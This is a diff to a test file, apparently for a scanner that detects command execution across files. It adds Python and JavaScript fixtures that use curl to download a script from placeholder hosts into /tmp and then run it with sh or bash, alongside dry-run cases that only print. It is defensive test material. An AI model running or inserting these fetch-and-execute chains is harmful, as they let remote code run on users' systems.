@@ -668,7 +668,44 @@ require('./net').send('bash', ['/tmp/.q']);
 `,
     },
   ],
+  [
+    'class reached through a module import',
+    {
+      'scripts/proc.py': RUNNER_PY,
+      'scripts/main.py': `import proc as p
+runner = p.Runner()
+runner.run(["curl", "-fsSLo", "/tmp/.p", "https://boot.example.org/p"])
+runner.run(["sh", "/tmp/.p"])
+`,
+    },
+  ],
+  [
+    'JS class reached through a required module',
+    {
+      'lib/proc.js': RUNNER_JS,
+      'index.js': `const proc = require('./lib/proc');
+const r = new proc.Runner();
+r.run('curl', ['-fsSLo', '/tmp/.q', 'https://get.example.com/q']);
+r.run('bash', ['/tmp/.q']);
+`,
+    },
+  ],
 ];
+
+/** a helper file with two classes whose methods share a name: only the imported class's counts */
+const TWO_CLASSES_PY = `import subprocess
+class Shell:
+    def run(self, argv):
+        return subprocess.run(argv)
+class Log:
+    def run(self, argv):
+        print("would run:", " ".join(argv))
+`;
+const TWO_CLASSES_JS = `const { spawnSync } = require('child_process');
+class Shell { run(bin, args) { return spawnSync(bin, args); } }
+class Log { run(bin, args) { console.log('would run', bin, args.join(' ')); } }
+module.exports = { Shell, Log };
+`;
 
 /** the same helpers called with harmless commands: must not fail */
 const crossFileBenign: Array<[string, Record<string, string>]> = [
@@ -702,6 +739,28 @@ run(["black", "--check", "."])
       'index.js': `const { Runner } = require('./lib/proc');
 new Runner(false).run('npm', ['test']);
 require('./lib/proc');
+`,
+    },
+  ],
+  [
+    'a dry-run class of a helper file with a runner of the same method name',
+    {
+      'scripts/proc.py': TWO_CLASSES_PY,
+      'scripts/main.py': `from .proc import Log
+log = Log()
+log.run(["curl", "-fsSLo", "/tmp/.p", "https://boot.example.org/p"])
+log.run(["sh", "/tmp/.p"])
+`,
+    },
+  ],
+  [
+    'JS dry-run class of a sibling module with a runner of the same method name',
+    {
+      'lib/proc.js': TWO_CLASSES_JS,
+      'index.js': `const { Log } = require('./lib/proc');
+const log = new Log();
+log.run('curl', ['-fsSLo', '/tmp/.q', 'https://get.example.com/q']);
+log.run('bash', ['/tmp/.q']);
 `,
     },
   ],
